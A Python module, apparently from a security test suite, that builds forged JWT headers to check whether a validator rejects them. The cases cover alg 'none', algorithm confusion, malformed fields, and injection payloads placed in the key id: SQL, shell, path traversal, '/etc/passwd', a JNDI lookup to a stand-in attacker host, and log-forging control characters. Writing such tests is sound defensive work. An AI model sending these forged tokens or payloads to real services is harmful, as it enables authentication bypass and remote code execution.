"""A: what the token's header says. Signed by the attacker, as nobody else can: no header may talk a layer into that."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

from proof.attack import spellings
from proof.attack.case import Case, token_case
from proof.attack.tokens import ABSENT, as_json, encoded, raw
from proof.attack.world import World

NO_OBJECT = "fails on a token header that is JSON but no object"


def header_cases() -> Iterator[Case]:
    yield from _algorithm()
    yield from _key_id()
    yield from _extensions()
    yield from _bytes()


def _forged(id: str, name: str, title: str, **changes: Any) -> Case:  # noqa: A002 - the field's name
    return token_case(id, name, title, lambda world: world.forged(world.header(**changes)))


def _with_header(text: bytes) -> Callable[[World], str]:
    return lambda world: world.forged(text)


def _unsigned(**changes: Any) -> Callable[[World], str]:
    return lambda world: f"{world.unsigned(world.header(**changes))}."


def _leftover(algorithm: str) -> Callable[[World], str]:
    """A real token's payload and signature under another algorithm."""

    def token(world: World) -> str:
        _, payload, signature = world.access.split(".")
        return f"{encoded(as_json(world.header(alg=algorithm)))}.{payload}.{signature}"

    return token


def _algorithm() -> Iterator[Case]:
    yield token_case(
        "A01",
        "alg-none",
        "alg none, empty signature, trailing dot",
        _unsigned(alg="none"),
    )
    yield token_case(
        "A01",
        "alg-none-alone",
        "alg none without a key id",
        lambda world: f"{world.unsigned({'alg': 'none', 'typ': 'JWT'})}.",
    )
    yield token_case(
        "A01",
        "alg-none-two-segments",
        "alg none, two segments",
        lambda world: world.unsigned(world.header(alg="none")),
    )
    for spelling in ("None", "NONE", "nOnE"):
        yield token_case(
            "A02",
            f"alg-{spelling}",
            f"alg {spelling}, empty signature",
            _unsigned(alg=spelling),
        )
    for spelling in ("none", "None", "NONE", "nOnE"):
        yield token_case(
            "A02",
            f"alg-{spelling}-leftover-signature",
            f"alg {spelling} over a real token's signature",
            _leftover(spelling),
        )
    values = {
        "missing": ABSENT,
        "null": None,
        "number": 256,
        "true": True,
        "list": ["RS256"],
        "object": {},
        "empty": "",
    }
    for name, value in values.items():
        yield _forged("A04", f"alg-{name}", f"alg {name}", alg=value)
    for algorithm in ("rs256", "RS384", "RS512", "PS256", "ES256", "EdDSA", "HS512"):
        yield _forged("A05", f"alg-{algorithm}", f"alg {algorithm} over an RS256 signature", alg=algorithm)


def _key_id() -> Iterator[Case]:
    values = {"missing": ABSENT, "null": None, "number": 1, "list": ["k1"], "object": {}, "true": True, "empty": ""}
    for name, value in values.items():
        yield _forged("A07", f"kid-{name}", f"key id {name}", kid=value)
    yield _forged("A10", "kid-unknown", "a key id that the pool does not have", kid="q" * 43 + "=")
    for name, kid in {
        "path": "../../dev/null",
        "proc": "/proc/sys/kernel/randomize_va_space",
        "sql": "' UNION SELECT '1",
        "shell": "|sleep 10",
        "file-url": "file:///etc/passwd",
        "template": "${jndi:ldap://attacker.example/k}",
        "long": "k" * 4_000,
    }.items():
        yield _forged("A11", f"kid-{name}", f"key id is {kid[:40]}", kid=kid)
    yield token_case(
        "A11",
        "kid-url",
        "key id is an address of the attacker's",
        lambda world: world.forged(world.header(kid=f"{world.lure}/kid")),
    )
    for name, kid in {
        "crlf": 'k\r\n{"level":"INFO","status":200}',
        "ansi": "\x1b[2J\x1b[31mk\x07",
        "bidi": "k\u202e\u2028\u0000",
    }.items():
        yield _forged("A12", f"kid-{name}", f"key id that would forge a log line ({name})", kid=kid)


def _extensions() -> Iterator[Case]:
    yield _forged("A13", "crit-unknown", "crit names an unknown extension", crit=["x-unknown"])
    crits = {"empty": [], "string": "exp", "absent-member": ["exp"], "null": None}
    for name, crit in crits.items():
        yield _forged("A14", f"crit-{name}", f"crit is {name}", crit=crit)
    yield _forged("A15", "b64-false", "unencoded payload announced (RFC 7797)", crit=["b64"], b64=False)
    yield token_case(
        "A15",
        "b64-false-empty",
        "unencoded payload, empty middle segment",
        lambda world: f"{encoded(as_json(world.header(crit=['b64'], b64=False)))}..{'A' * 342}",
    )
    types = {"logout": "logout+jwt", "list": ["JWT"], "number": 5, "dpop": "dpop+jwt"}
    for name, typ in types.items():
        yield _forged("A18", f"typ-{name}", f"typ {name}: a token of another kind", typ=typ)
    yield token_case(
        "A19",
        "cty-nested",
        "cty JWT with a real token as payload, signed by the attacker",
        lambda world: world.forged(world.header(cty="JWT"), world.access.encode()),
    )


def _bytes() -> Iterator[Case]:
    for name, text in {**spellings.NO_OBJECTS, **spellings.NO_JSON}.items():
        yield token_case(
            "A21",
            f"header-{name}",
            f"header is {name}",
            _with_header(text),
            errs=NO_OBJECT if name in spellings.NO_OBJECTS else "",
        )
    for name, text in spellings.NO_UTF_8.items():
        yield token_case("A22", f"header-{name}", f"header is not UTF-8 ({name})", _with_header(text))
    yield token_case(
        "A23",
        "header-duplicate-alg",
        "alg twice, none and RS256",
        lambda world: world.forged(
            b'{"alg":"none","alg":"RS256","kid":' + as_json(world.kid) + b"}", as_json(world.claims())
        ),
    )
    for literal in ("NaN", "Infinity", "1e400"):
        yield _forged("A24", f"header-{literal}", f"header holds {literal}", x=raw(literal))
